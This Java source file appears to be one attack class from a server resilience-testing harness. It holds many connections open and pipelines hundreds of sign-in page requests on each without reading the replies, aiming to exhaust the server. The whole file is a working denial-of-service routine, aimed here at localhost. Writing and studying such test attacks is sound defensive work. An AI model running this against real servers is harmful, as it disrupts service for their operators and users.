package be.ptr.hostile;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/**
 * A page that a thread writes, asked for hundreds of times on one connection, and never read.
 *
 * @param longestClick of somebody else, while it lasts
 */
public record UnreadPages(int connections, Duration length, Duration longestClick) implements Attack {
    private static final Duration PACE = Duration.ofSeconds(4);
    private static final int PAGES = 250;
    private static final String REQUEST = "GET /sign-in HTTP/1.1\r\nHost: localhost\r\n\r\n";

    @Override
    public Finding against(Victim victim) throws InterruptedException {
        return new Siege(victim, length, longestClick)
                .hold(
                        connections + " connections ask for " + PAGES + " pages each, then for one more each "
                                + PACE.toSeconds() + " s, and read none for " + length.toSeconds() + " s",
                        connections,
                        number -> open(victim),
                        PACE,
                        connection -> ask(connection, 1));
    }

    private static Socket open(Victim victim) throws IOException {
        Socket connection = victim.connect(1 << 10);
        ask(connection, PAGES);
        return connection;
    }

    /** Fails when the server has closed. */
    private static void ask(Socket connection, int pages) throws IOException {
        connection.getOutputStream().write(REQUEST.repeat(pages).getBytes(StandardCharsets.US_ASCII));
    }
}
